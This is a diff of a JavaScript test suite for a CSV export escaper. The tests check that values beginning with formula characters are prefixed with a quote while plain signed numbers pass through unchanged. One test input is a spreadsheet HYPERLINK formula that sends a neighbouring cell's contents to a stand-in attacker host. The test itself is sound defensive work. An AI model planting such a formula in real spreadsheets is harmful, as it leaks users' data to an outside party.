@@ -168,6 +168,10 @@ describe('datasets from reviews', () => {
     assert.equal(csvField('=HYPERLINK("https://evil.example/?"&B2,"Open")'), `"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")"`);
     // Only the first character counts: text with these characters elsewhere is written as it is.
     for (const plain of ['a=b', '2-1', 'ana@example.com', '1', '', 'x\t=y']) assert.equal(csvField(plain), plain);
+    // A signed number alone is a number, no formula: an answer of -2 reads -2.
+    for (const number of ['-2', '+1.5', '-.5', '-3e4', '+2E-3']) assert.equal(csvField(number), number);
+    for (const formula of ['-2+3', '-2 ', '-2e', '--2', '-', '+', '-1,5', '-0x1', '-2%', '-1.2.3', '-2\n=1'])
+      assert.ok(csvField(formula).replace(/^"/, '').startsWith("'"), formula);
 
     // Through the export: the user's message, the reference and the session id are text anyone may have written (tags
     // cannot start with one of these characters).
